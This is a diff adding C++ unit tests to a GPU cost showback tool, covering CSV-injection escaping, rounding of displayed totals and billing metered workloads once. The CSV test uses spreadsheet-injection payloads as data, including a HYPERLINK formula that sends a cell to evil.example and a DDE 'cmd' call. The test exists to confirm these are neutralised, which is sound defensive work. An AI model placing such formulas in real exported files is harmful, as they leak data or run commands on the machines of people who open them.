@@ -2,10 +2,14 @@
 // each failed on the code before the fix.
 #include <gtest/gtest.h>
 
+#include <algorithm>
+#include <cmath>
 #include <fstream>
 #include <nlohmann/json.hpp>
+#include <random>
 #include <sstream>
 
+#include "core/base/csv.h"
 #include "core/base/names.h"
 #include "core/cli/cli.h"
 #include "core/cost/config.h"
@@ -135,13 +139,136 @@ TEST_F(ShowbackTrustTest, Finding8WindowsProrateBySecondsAndAcceptDates) {
   EXPECT_NE(err_.str().find("is not before"), std::string::npos) << err_.str();
 }
 
+// Issue 24 (finance export): a cost center a spreadsheet would run as a formula is written as
+// text (OWASP's CSV-injection rule: =, +, -, @, tab, carriage return); every row states its
+// window and currency; numbers stay numbers.
+TEST_F(ShowbackTrustTest, CsvCellsASpreadsheetWouldRunAreWrittenAsTextWithPeriodAndCurrency) {
+  const std::vector<std::string> hostile = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+                                            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"};
+  for (size_t i = 0; i < hostile.size(); ++i)
+    ASSERT_TRUE(
+        ledger_->Append(Usage("h" + std::to_string(i), hostile[i], 0, 3600, 1'000'000)).ok())
+        << hostile[i];
+  // Tab and carriage return never reach a file: the ledger refuses control characters.
+  for (const char* control : {"\tleading-tab", "\rleading-cr"})
+    EXPECT_FALSE(ledger_->Append(Usage(control, control, 0, 3600, 1'000'000)).ok());
+  EXPECT_EQ(CsvText("\tx"), "'\tx");
+  EXPECT_EQ(CsvText("\rx"), "\"'\rx\"");
+  EXPECT_EQ(CsvText("-1"), "'-1");
+  EXPECT_EQ(CsvNumber("-1.500000"), "-1.500000");
+  ASSERT_TRUE(ledger_->Append(Usage("ok", "research", 0, 3600, 2'000'000)).ok());
+  ASSERT_EQ(Showback({"--format", "csv", "--from", "1970-01-01", "--to", "1970-01-02"}), 0)
+      << err_.str();
+  const std::string csv = out_.str();
+  EXPECT_EQ(csv.rfind("cost_center,period_start,period_end,currency,", 0), 0u) << csv;
+  std::istringstream in(csv);
+  std::string line;
+  std::getline(in, line);
+  int rows = 0;
+  for (; std::getline(in, line); ++rows) {
+    // The first cell, unquoted: never one a spreadsheet evaluates.
+    std::string first = line.substr(0, line.find(",1970-01-01T00:00:00Z,"));
+    if (first.size() >= 2 && first.front() == '"') first = first.substr(1, first.size() - 2);
+    ASSERT_FALSE(first.empty()) << line;
+    EXPECT_EQ(std::string("=+-@\t\r").find(first[0]), std::string::npos) << line;
+    EXPECT_NE(line.find(",1970-01-01T00:00:00Z,1970-01-02T00:00:00Z,USD,"), std::string::npos)
+        << line;
+  }
+  EXPECT_GE(rows, 2);
+  EXPECT_NE(csv.find("\r\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\","),
+            std::string::npos)
+      << csv;
+  EXPECT_NE(csv.find("\r\n'@SUM(A1:A9),"), std::string::npos) << csv;
+  EXPECT_NE(csv.find("\r\nresearch,1970-01-01T00:00:00Z,1970-01-02T00:00:00Z,USD,1.000,2.000000,"),
+            std::string::npos)
+      << csv;
+}
+
+// The displayed TOTAL is the sum of the displayed rows, to the cent, for any amounts: three
+// groups of $1/3 each show $0.34 + $0.33 + $0.33 = $1.00, not 3 x $0.33 against a $1.00 total.
+TEST_F(ShowbackTrustTest, TheDisplayedTotalEqualsTheSumOfTheDisplayedRows) {
+  std::mt19937_64 rng(24);
+  for (int round = 0; round < 50; ++round) {
+    testing::ScopedTempDir dir;
+    auto ledger = std::move(Ledger::Open(dir.Path("l.db"))).value();
+    const int groups = round == 0 ? 3 : 1 + static_cast<int>(rng() % 9);
+    for (int g = 0; g < groups; ++g)
+      for (int r = 0; r < (round == 0 ? 1 : 3); ++r)
+        ASSERT_TRUE(ledger
+                        ->Append(Usage("r" + std::to_string(g) + "-" + std::to_string(r),
+                                       "cc" + std::to_string(g), 0, 3600,
+                                       round == 0 ? 333'333 + (g == 0 && r == 0)
+                                                  : static_cast<MicroUsd>(rng() % 5'000'000)))
+                        .ok());
+    const gpuvpa::Showback s = *ledger->QueryShowback({});
+    for (ReportFormat format : {ReportFormat::kTable, ReportFormat::kMarkdown}) {
+      std::istringstream in(FormatShowback(s, ShowbackGroup::kCostCenter, format));
+      std::vector<std::vector<std::string>> table;
+      for (std::string line; std::getline(in, line);) {
+        std::vector<std::string> cells;
+        std::istringstream words(line);
+        for (std::string w; words >> w;)
+          if (w != "|") cells.push_back(w);
+        if (!cells.empty() && (cells[0].rfind("cc", 0) == 0 || cells[0] == "TOTAL"))
+          table.push_back(cells);
+      }
+      ASSERT_EQ(table.size(), static_cast<size_t>(groups) + 1);
+      for (size_t col = 1; col < table[0].size(); ++col) {
+        if (table.back()[col].find('$') == std::string::npos) continue;
+        auto cents = [](std::string v) {
+          v.erase(std::remove_if(v.begin(), v.end(), [](char c) { return c == '$' || c == ','; }),
+                  v.end());
+          return std::llround(std::stod(v) * 100);
+        };
+        long long sum = 0;
+        for (size_t r = 0; r + 1 < table.size(); ++r) sum += cents(table[r][col]);
+        EXPECT_EQ(sum, cents(table.back()[col])) << "round " << round << " column " << col;
+      }
+      if (round == 0) {
+        EXPECT_EQ(table[0][2], "$0.34");
+        EXPECT_EQ(table[1][2], "$0.33");
+        EXPECT_EQ(table.back()[2], "$1.00");
+      }
+    }
+  }
+}
+
+// Billed: each GPU-second once. A workload metered by the scaler is billed by its metering and
+// its allocation estimate (DCGM saw the same pods) is shown as not billed; others are billed by
+// allocation.
+TEST_F(ShowbackTrustTest, BilledCountsMeteredWorkloadsOnceAndAllocatedOnesOtherwise) {
+  LedgerAction alloc_metered = Usage("a1", "agents", 0, 3600, 4'000'000);
+  alloc_metered.workload = "Deployment/agent-loop/main";
+  LedgerAction alloc_plain = Usage("a2", "agents", 0, 3600, 3'000'000);
+  alloc_plain.workload = "Deployment/batch/main";
+  LedgerAction metered = Usage("m1", "agents", 0, 3600, 0);
+  metered.kind = ActionKind::kMeteredPeriod;
+  metered.workload = "Deployment/agent-loop/main";
+  metered.allocated_gpu_time = 0;
+  metered.metered_gpu_time = 900'000;
+  metered.metered = 1'000'000;
+  for (const LedgerAction& a : {alloc_metered, alloc_plain, metered})
+    ASSERT_TRUE(ledger_->Append(a).ok()) << a.action_id;
+  const gpuvpa::Showback s = *ledger_->QueryShowback({});
+  ASSERT_EQ(s.groups.size(), 1u);
+  EXPECT_EQ(s.total.allocated, 7'000'000);
+  EXPECT_EQ(s.total.metered, 1'000'000);
+  EXPECT_EQ(s.total.billed, 4'000'000) << "$1 metered + $3 allocated, not $8";
+  EXPECT_EQ(s.total.billed_metered, 1'000'000);
+  EXPECT_EQ(s.total.allocated_unbilled, 4'000'000);
+  ASSERT_EQ(Showback({"--format", "json"}), 0) << err_.str();
+  const nlohmann::json doc = nlohmann::json::parse(out_.str());
+  EXPECT_DOUBLE_EQ(doc["total"]["billed_usd"].get<double>(), 4.0) << doc.dump();
+}
+
 TEST_F(ShowbackTrustTest, Finding9CsvIsRfc4180WithoutATotalRow) {
   ASSERT_TRUE(ledger_->Append(Usage("x", "research, EU \"west\"", 0, 3600, 1'000'000)).ok());
   ASSERT_TRUE(ledger_->Append(Usage("y", "plain", 0, 3600, 2'000'000)).ok());
   ASSERT_EQ(Showback({"--format", "csv"}), 0) << err_.str();
   const std::string csv = out_.str();
   EXPECT_EQ(csv.find("TOTAL"), std::string::npos) << csv;
-  EXPECT_NE(csv.find("\r\n\"research, EU \"\"west\"\"\",1.000,1.000000"), std::string::npos) << csv;
+  EXPECT_NE(csv.find("\r\n\"research, EU \"\"west\"\"\",,,USD,1.000,1.000000"), std::string::npos)
+      << csv;
   // Every record has the header's field count when read by RFC 4180 rules.
   std::istringstream in(csv);
   std::vector<size_t> fields;
